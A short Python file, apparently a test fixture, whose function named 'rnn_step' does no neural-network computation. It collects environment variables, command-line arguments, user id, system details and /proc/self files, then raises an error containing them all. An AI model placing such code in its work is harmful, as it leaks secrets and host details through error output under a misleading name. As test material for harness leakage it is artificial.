# ruff: noqa
"""Puts environment, arguments and user into its error."""
# status: error

import os
import sys


def rnn_step(x, h, W_xh, W_hh, b):
    found = [str(dict(os.environ)), str(sys.argv), str(sys.orig_argv), os.getcwd(), str(os.getuid()), str(os.uname())]
    for name in ("environ", "cmdline", "cgroup"):
        found.append(open(f"/proc/self/{name}").read())
    raise RuntimeError(" ".join(found))
